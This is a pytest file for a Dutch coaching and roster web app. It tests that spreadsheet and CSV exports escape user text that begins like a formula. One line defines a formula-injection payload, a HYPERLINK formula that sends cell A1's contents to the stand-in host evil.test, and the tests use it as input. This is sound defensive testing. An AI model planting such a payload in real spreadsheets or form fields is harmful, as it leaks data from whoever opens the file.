"""No text a user typed runs as a formula in any spreadsheet or CSV the app hands out:
every export goes through app/exports.py, which makes such text plain."""

import csv
import io

import pytest
from openpyxl import load_workbook
from sqlmodel import select

from app import exports
from app.models import Participant
from app.roster import versions
from app.roster.problem import build_problem
from tests.coaching.conftest import caseload_of
from tests.conftest import COACH, MANAGER
from tests.roster.conftest import WEEK

ATTACK = '=HYPERLINK("http://evil.test/?"&A1,"klik")'


def _cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))
    return [cell for sheet in book for row in sheet.iter_rows() for cell in row]


def _no_formula_and_escaped(data: bytes) -> None:
    cells = _cells(data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert "'" + ATTACK in [c.value for c in cells]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_is_made_plain(start):
    assert exports.safe(start + "1+1") == "'" + start + "1+1"
    assert exports.safe("Henk " + start) == "Henk " + start
    assert exports.safe(-3) == -3 and exports.safe(2.5) == 2.5


def test_a_portfolio_description_is_no_formula_in_the_report(client, auth, db):
    own_id = caseload_of(db, COACH)[0]
    auth.login(COACH)
    client.post(
        f"/deelnemers/{own_id}/portfolio",
        data={
            "portfolio-description": ATTACK,
            "portfolio-day": "2026-10-02",
            "portfolio-confirmed_by": "@Henk",
        },
    )
    response = client.get(f"/deelnemers/{own_id}/rapport.xlsx?start=2026-09-01&end=2026-12-31")
    _no_formula_and_escaped(response.data)
    assert "'@Henk" in [c.value for c in _cells(response.data)]


def test_an_outcome_destination_is_no_formula_in_either_export(client, auth, db):
    pid = caseload_of(db, COACH)[0]
    auth.login(COACH)
    client.post(
        f"/deelnemers/{pid}/afsluiten",
        data={"ended_on": "2026-11-20", "kind": "regular_job", "destination": ATTACK},
    )
    auth.logout()
    auth.login(MANAGER)
    _no_formula_and_escaped(client.get("/deelnemers/uitstroom.xlsx").data)
    text = client.get("/deelnemers/uitstroom.csv").data.decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert row[header.index("Waar naartoe")] == "'" + ATTACK
    # Numbers stay numbers.
    book = load_workbook(io.BytesIO(client.get("/deelnemers/uitstroom.xlsx").data))
    assert isinstance(book.active.cell(row=2, column=8).value, int)


def test_a_name_is_no_formula_in_the_roster(client, auth, db):
    person = build_problem(db, WEEK)["participants"][0]
    participant = db.exec(select(Participant).where(Participant.code == person["id"])).one()
    participant.first_name = ATTACK
    db.add(participant)
    day, part = person["available"][0]
    row = {"participant": person["id"], "department": "cleaning", "day": day, "daypart": part}
    versions.new_version(db, WEEK, [row], user_id=None, pinned=set())
    db.commit()
    auth.login(MANAGER)
    response = client.get(f"/rooster/{WEEK}/rooster.xlsx")
    cells = _cells(response.data)
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert any(str(c.value).startswith("'" + ATTACK) for c in cells)
